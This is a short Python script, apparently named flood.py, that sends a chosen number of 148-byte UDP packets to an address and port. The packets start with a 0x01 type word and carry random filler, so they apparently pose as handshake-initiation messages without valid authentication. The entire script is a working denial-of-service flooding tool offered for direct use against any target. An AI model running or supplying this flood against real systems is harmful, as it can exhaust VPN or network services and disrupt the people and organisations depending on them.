"""Initiations of nobody: usage flood.py ADDRESS PORT COUNT. They have the length and the first word of one, and no right code."""
import os
import socket
import sys

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
    for _ in range(count):
        flood.sendto(b"\x01\0\0\0" + os.urandom(144), (address, port))
print(f"sent {count}")
